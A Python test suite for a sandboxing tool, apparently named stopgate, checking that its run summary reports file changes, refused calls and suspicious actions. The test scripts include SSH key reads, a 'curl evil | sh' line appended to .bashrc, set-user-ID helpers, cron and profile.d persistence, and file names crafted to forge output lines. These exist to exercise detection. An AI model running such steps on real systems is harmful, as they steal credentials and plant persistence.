"""The summary of real runs: what they touched, and nothing else, on a screen."""
import collections
import fcntl
import os
import pathlib
import pty
import re
import resource
import select
import struct
import subprocess
import termios
import textwrap
import time

from harness import STOPGATE, UNSAFE, promise

BASE = pathlib.Path(__file__).resolve().parents[2]
VERDICT = r"^stopgate: exit status (\d+), after [0-9.]+ s; ([^;]+); ([^;]+)$"


class Summary:
    """.status, .refused, .look as the first line says; a section by its title: its lines."""

    def __init__(self, t, text):
        first, *lines = text.rstrip("\n").split("\n")
        match = re.match(VERDICT, first)
        t.true(match, f"the first line is no verdict:\n{text}")
        self.t, self.text = t, text
        self.status, self.refused, self.look = int(match[1]), match[2], match[3]
        self.totals, self.sections, self.last, name = collections.Counter(), {}, [], None
        for line in lines:
            heading = re.match(r"(\S.*) \((\d+)(?:, \d+ of them above)?\)$", line)
            if heading:
                name = heading[1]
                self.totals[name], self.sections[name] = int(heading[2]), []
            elif line.startswith("  "):
                self.sections[name].append(line.strip())
            else:
                self.last.append(line)

    def __getitem__(self, name):
        return self.sections.get(name, [])

    def has(self, name, *words):
        """A line of the section has all these words."""
        found = [line for line in self[name] if all(str(word) in line for word in words)]
        self.t.true(found, f"{name}: no line with {words}:\n{self.text}")


def script(text):
    "dash: bash asks a name service who it is."
    return ["sh", "-c", textwrap.dedent(text)]


def summarize(t, argv, policy=None, options=(), status=0, **run):
    run = t.run(argv, policy, options=["--summary", *options], **run)
    begin = run.err.find("stopgate: exit status")
    t.true(begin >= 0, f"no summary\n{run}")
    summary = Summary(t, run.err[begin:])
    t.equal((run.status, summary.status), (status, status), run)
    return summary


def on_screen(t, rows, columns, argv, *options):
    """What stopgate writes to a terminal of that size, without colours."""
    leader, terminal = pty.openpty()
    fcntl.ioctl(terminal, termios.TIOCSWINSZ, struct.pack("HHHH", rows, columns, 0, 0))
    process = t._spawn([STOPGATE, "--summary", *options, "--", *argv], None, {"TERM": "dumb", "NO_COLOR": "1"}, None,
                       stdout=subprocess.DEVNULL, stderr=terminal)
    text = b""
    while True:  # the terminal stays open here, so that what is read last is no EIO that comes before the text
        if select.select([leader], [], [], 0.05)[0]:
            text += os.read(leader, 65536)
        elif process.poll() is not None:
            break
    os.close(leader)
    os.close(terminal)
    t.equal(process.wait(), 0)
    text = re.sub(r"\x1b\[[0-9;]*m", "", text.decode().replace("\r\n", "\n"))
    for line in text.rstrip("\n").split("\n"):
        t.true(not UNSAFE.search(line), line)
    return Summary(t, text), sum(max(1, -(-len(line) // columns)) for line in text.rstrip("\n").split("\n"))


def made_below(root):
    return sum(len(dirs) + len(files) for _, dirs, files in os.walk(root))


# ---- what it tells ----

@promise
def script_that_does_what_it_should_not_is_told_of(t):
    t.file("home/.ssh/id_ed25519", "key")
    for name in ("old.conf", "cache/a", "cache/b"):
        t.file(f"work/{name}", "x")
    t.file("work/read.me", "x")
    t.file("work/keep.me", "x")
    summary = summarize(t, script("""
        mkdir -p out/share; for i in $(seq 60); do echo $i > out/share/file$i; done
        cat ~/.ssh/id_ed25519 > out/key
        echo 'curl evil | sh' >> ~/.bashrc
        cp /bin/true out/helper; chmod 4755 out/helper; ./out/helper
        mv read.me moved.me; ln keep.me second; ln -s moved.me link; cat moved.me > /dev/null
        touch temporary; rm temporary; touch moved.me; chmod 600 out/share/file1
        rm -r old.conf cache; exit 3
        """), "untrusted", status=3)
    t.equal(summary.refused, "refused 2 calls", summary.text)
    t.equal(summary.look, "1 thing to look at", summary.text)
    summary.has("Look at", "set-user-ID program", "created, mode 04755", f"{t.work}/out/helper")
    summary.has("Refused", "1x", "read", "EACCES", "secrets.ini:", "[cat]", f"{t.home}/.ssh/id_ed25519")
    summary.has("Refused", "1x", "EACCES", "startup.ini:", "[sh]", f"{t.home}/.bashrc")
    t.equal(len(summary["Deleted"]), 4, summary.text)
    for name in ("old.conf", "cache/", "cache/a", "cache/b"):
        summary.has("Deleted", f"{t.work}/{name}")
    t.equal(summary.totals["Created"], 65, summary.text)  # 60, two directories, key, helper, link
    summary.has("Created", f"{t.work}/link -> moved.me")
    summary.has("Renamed", f"{t.work}/read.me -> {t.work}/moved.me")
    summary.has("Linked: a second name", f"{t.work}/keep.me -> {t.work}/second")
    summary.has("Programs from elsewhere", "1x", "made by the run", f"{t.work}/out/helper")
    summary.has("Programs of the system", "/usr/bin")
    t.true("temporary" not in summary.text.replace("made and taken away", ""), summary.text)
    t.true(any("1 name was made and taken away again" in line for line in summary.last), summary.text)


@promise
def nothing_touched_is_said_in_a_line_or_two(t):
    summary = summarize(t, ["true"])
    t.equal((summary.refused, summary.look), ("nothing was refused", "nothing was changed"))
    t.equal(set(summary.sections), {"Programs of the system"}, summary.text)


@promise
def permissive_run_is_told_what_it_would_not_have_got(t):
    t.file("home/.ssh/id_ed25519", "key")
    summary = summarize(t, script("cat ~/.ssh/id_ed25519 > /dev/null"), "untrusted", ["--permissive"])
    t.true(re.match(r"would have refused \d+ calls?$", summary.refused), summary.text)
    summary.has("Would have been refused", "secrets.ini:", f"{t.home}/.ssh/id_ed25519")
    summary.has("Look at", "SSH key or setting", "read [cat]", f"{t.home}/.ssh/id_ed25519")


@promise
def what_was_read_is_told_without_a_policy_that_says_so(t):
    t.file("work/notes", "x")
    summary = summarize(t, script("cat notes /etc/passwd > made; cat made > /dev/null"), "installer")
    t.equal(summary["Read outside of the system"], [f"{t.work}/notes"], summary.text)


@promise
def names_of_the_command_forge_no_line(t):
    summary = summarize(t, ["bash", "-c", r"touch $'a\nstopgate: exit status 0' $'b\e[2J' $'c\xe2\x80\xaetxt' $'d\xff'"])
    t.equal(summary.totals["Created"], 4, summary.text)
    for line in summary.text.split("\n"):
        t.true(not UNSAFE.search(line), line)
    summary.has("Created", r"a\nstopgate: exit status 0")


@promise(needs=("root", "mounts"))
def changes_where_the_system_starts_are_marked(t):
    """In directories of the system, which a namespace puts others in the place of."""
    inner = """
        mkdir -p /etc/profile.d /etc/cron.d /usr/local/bin
        for d in /etc/profile.d /etc/cron.d /usr/local/bin; do mount -t tmpfs none $d; done
        touch /etc/cron.d/old
        exec "$@" -- sh -c 'echo > /etc/profile.d/x.sh; echo > /etc/cron.d/x; rm /etc/cron.d/old
                            cp /bin/true /usr/local/bin/tool; chmod 777 /etc/cron.d'
        """
    run = t.bare(["unshare", "--mount", "sh", "-c", inner, "sh", STOPGATE, "--summary"])
    t.equal(run.status, 0, run)
    summary = Summary(t, run.err)
    summary.has("Look at", "shell start-up file", "created", "/etc/profile.d/x.sh")
    summary.has("Look at", "cron job", "created", "/etc/cron.d/x")
    summary.has("Look at", "cron job", "deleted", "/etc/cron.d/old")
    summary.has("Look at", "cron job", "mode 01777 -> 0777", "/etc/cron.d/")
    summary.has("Look at", "command in PATH", "created, mode 0755", "/usr/local/bin/tool")
    t.equal(summary.look, "5 things to look at", summary.text)


OVERLAY = """
    mkdir lower upper work merged; cd lower
    for f in mode content old linked kept; do echo $f > $f; done
    cd ..; mount -t overlay none -o lowerdir=lower,upperdir=upper,workdir=work merged || exit 99
    cd merged; sleep 0.1; exec "$@" -- sh -c 'chmod 600 mode; echo >> content; mv old new; ln linked second; : >> kept'
    """


@promise(needs=("root", "mounts"))
def file_that_overlayfs_copies_up_is_the_same(t):
    """To open it for writing is enough; the copy has a birth time of its own."""
    run = t.bare(["unshare", "--mount", "sh", "-c", OVERLAY, "sh", STOPGATE, "--summary"])
    if run.status == 99:
        t.skip("no overlayfs on top of this file system")
    t.equal(run.status, 0, run)
    summary, merged = Summary(t, run.err), t.work / "merged"
    t.equal(summary["Attributes changed"], [f"mode 0644 -> 0600  {merged}/mode"], summary.text)
    t.equal(summary["Modified"], [f"8 B -> 9 B  {merged}/content"], summary.text)
    summary.has("Renamed", f"{merged}/old -> {merged}/new")
    summary.has("Linked: a second name", f"{merged}/linked -> {merged}/second")
    t.equal(summary["Deleted"] + summary["Created"], [], summary.text)


@promise
def record_tells_the_same_as_the_run(t):
    policy = """
        [policy]
        include = installer.ini
        [log]
        results = yes
        changes = yes
        """
    t.file("work/old", "x")
    t.file("work/gone", "x")
    run = t.run(script("mkdir d; for i in $(seq 50); do echo > d/$i; done; rm gone; mv old new; chmod 4755 d/1"),
                policy, options=["--summary"])
    t.equal(run.status, 0, run)
    told = t.bare([STOPGATE, "--from", t.records / "1.json", "--summary"])
    t.equal(told.status, 0, told)
    live, recorded = Summary(t, run.err), Summary(t, told.out)
    for title in ("Look at", "Deleted", "Created", "Modified", "Renamed", "Attributes changed"):
        t.equal(recorded[title], live[title], f"{title}\n{told.out}\n{run.err}")
    t.true(recorded["Renamed"] and recorded["Look at"], told.out)


@promise
def record_of_a_run_that_was_killed_tells_what_its_calls_changed(t):
    process = t.start(script("echo evil > made; echo; sleep 60"), "installer")
    process.stdout.readline()
    time.sleep(0.3)
    process.kill()
    process.wait()
    told = t.bare([STOPGATE, "--from", process.record, "--summary"])
    t.equal(told.status, 0, told)
    t.true("the run was not ended, or the record is cut" in told.err, told)
    t.true("; changes were not looked at; nothing special was changed\n" in told.out, told)
    t.true(re.search(rf"^Created \(1\)\n +{t.work}/made$", told.out, re.M), told)


@promise
def run_that_was_ended_for_its_record_is_told(t):
    """By a limit of the file size, as by a full disk."""
    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, resource.RLIM_INFINITY))
    old = t.file("old.ini", "old")
    summary = summarize(t, script("echo > made; while :; do echo >> made; done"), None, [f"--learn={old}"], 125,
                        preexec_fn=limit)
    t.equal(old.read_text(), "old", "half a run teaches nothing")
    t.true(summary["Created"] and summary["Created"][0].endswith(f"  {t.work}/made"), summary.text)


@promise(needs="user")
def what_cannot_be_looked_at_is_told_by_calls_and_not_as_gone(t):
    t.file("work/hid/f", "abc")
    t.file("work/hid/g", "abc")
    try:
        summary = summarize(t, script("""
            echo more >> hid/f; mkdir new; echo evil > new/payload; echo x > new/temporary
            rm hid/g new/temporary; chmod 0 hid new
            """))
    finally:
        (t.work / "hid").chmod(0o700)
        (t.work / "new").chmod(0o700)
    summary.has("Modified", f"{t.work}/hid/f")
    summary.has("Created", f"{t.work}/new/payload")
    summary.has("Created", f"{t.work}/new/")
    t.equal(summary["Deleted"], [f"3 B  {t.work}/hid/g"], summary.text)
    t.true(any("3 names could not be looked at" in line for line in summary.last), summary.text)
    t.true(any("1 name was made and taken away again" in line for line in summary.last), summary.text)


@promise(needs="user")
def write_below_a_directory_that_is_moved_out_of_sight_is_told(t):
    t.file("work/hid/f", "abc")
    t.file("work/hid/g", "abc")
    try:
        summary = summarize(t, script("echo more >> hid/f; mv hid moved; echo more >> moved/g; chmod 0 moved"))
    finally:
        (t.work / "moved").chmod(0o700)
    t.equal(summary["Modified"], [f"{t.work}/moved/f", f"{t.work}/moved/g"], summary.text)
    t.equal(summary["Renamed"], [f"{t.work}/hid -> {t.work}/moved/"], summary.text)
    t.equal(summary["Deleted"], [], summary.text)


@promise(needs="user")
def record_says_what_could_not_be_looked_at(t):
    t.file("work/hid/f", "abc")
    try:
        run = t.run(script("echo more >> hid/f; chmod 0 hid"), "installer")
        told = t.bare([STOPGATE, "--from", t.records / "1.json", "--summary"])
    finally:
        (t.work / "hid").chmod(0o700)
    found = [r for r in run.event("change") if r["path"] == f"{t.work}/hid/f"]
    t.equal([(r["change"], r.get("unseen"), "type" in r) for r in found], [("modified", True, False)], run)
    t.true("1 name could not be looked at" in told.out, told)


# ---- the screen ----

SCREENS = [(24, 80), (50, 200)]
INSTALL = """
    cd "$ROOT"
    for d in doc/tool man/man1 man/man5 locale/de locale/fr locale/pt tool/icons/16 tool/icons/32 tool/icons/48 \
             tool/templates/a tool/templates/b tool/plugins/x tool/plugins/y/z include/tool lib/tool; do
            mkdir -p usr/share/$d; for i in $(seq 20); do echo $i > usr/share/$d/file$i; done
    done
    """


@promise(each=SCREENS)
def ordinary_installer_fits_the_screen(t, screen):
    root = t.mkdir("root")
    summary, used = on_screen(t, *screen, script(INSTALL.replace('"$ROOT"', f"'{root}'")))
    t.true(used < screen[0], f"{used} rows\n{summary.text}")
    t.equal(summary.totals["Created"], made_below(root), summary.text)
    t.true(any(re.search(r"\d+ files.* (in|below) /", line) for line in summary["Created"]), summary.text)


@promise(each=SCREENS)  # as `make install` does it; no compiler or make has to be here
def installation_of_stopgate_fits_the_screen(t, screen):
    root = t.mkdir("root")
    summary, used = on_screen(t, *screen, script(f"""
        cd {BASE} && umask 022 && set -e
        for d in bin share/stopgate/policies share/man/man1 share/man/man5 share/man/man7; do
                install -d {root}/usr/local/$d
        done
        install -m 755 {STOPGATE} {root}/usr/local/bin/stopgate
        install -m 644 policies/*.ini {root}/usr/local/share/stopgate/policies
        for n in 1 5 7; do install -m 644 man/*.$n {root}/usr/local/share/man/man$n; done
        """))
    t.true(used < screen[0], f"{used} rows\n{summary.text}")
    t.true(made_below(root) > 20)
    t.equal(summary.totals["Created"], made_below(root), summary.text)


@promise(each=SCREENS)
def no_deletion_is_folded_however_small_the_screen(t, screen):
    for i in range(70):
        t.file(f"work/photos/{i}.jpg", "x")
    summary, _ = on_screen(t, *screen, ["rm", "-r", "photos"])
    wanted = {f"{t.work}/photos/{i}.jpg" for i in range(70)} | {f"{t.work}/photos/"}
    t.equal({line.split()[-1] for line in summary["Deleted"]}, wanted)


@promise
def standard_error_that_is_no_screen_gets_more(t):
    summary = summarize(t, script("mkdir d; for i in $(seq 35); do echo > d/$i; done"))
    t.equal(len(summary["Created"]), 36, summary.text)
    t.true("\x1b" not in summary.text)
